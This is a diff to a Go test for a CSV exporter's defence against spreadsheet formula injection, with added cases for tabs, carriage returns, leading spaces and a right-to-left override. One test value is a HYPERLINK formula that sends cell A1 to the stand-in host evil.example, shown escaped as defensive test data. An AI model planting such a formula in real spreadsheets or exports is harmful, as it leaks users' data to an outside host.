@@ -297,7 +297,8 @@ func TestSheetName(t *testing.T) {
 }
 
 // A text cell a spreadsheet would run as a formula (the sender's display name, a return's reason)
-// is written with a leading quote; numbers, percents and times stay as they are.
+// is written with a leading quote, once control characters are gone (a tab is a space); numbers,
+// percents and times stay as they are.
 func TestCSVFormulaInjection(t *testing.T) {
 	tbl := Table{
 		FormID:    "membership",
@@ -320,13 +321,14 @@ func TestCSVFormulaInjection(t *testing.T) {
 		t.Fatal(err)
 	}
 	want := []string{"Phường 1", "'@org", "'-đơn vị", "12", "90%", "đúng hạn",
-		`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "2026-03-10 09:00", "2", "ABCDEF", "'+1 thiếu số liệu\tvà \rhơn"}
+		`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "2026-03-10 09:00", "2", "ABCDEF", "'+1 thiếu số liệu và hơn"}
 	if len(recs) != 2 || !reflect.DeepEqual(recs[1], want) {
 		t.Errorf("records: got %q, want a row %q", recs, want)
 	}
 	for _, c := range []struct{ in, want string }{
 		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@SUM(A1)", "'@SUM(A1)"},
-		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"Lò Thị Mai", "Lò Thị Mai"}, {"a=b", "a=b"}, {"", ""},
+		{"\tx", " x"}, {"\rx", "x"}, {"\t=1", "' =1"}, {" @x", "' @x"}, {"\u202E=1", "'=1"},
+		{"Lò Thị Mai", "Lò Thị Mai"}, {"a=b", "a=b"}, {"", ""},
 	} {
 		if got := csvText(c.in); got != c.want {
 			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
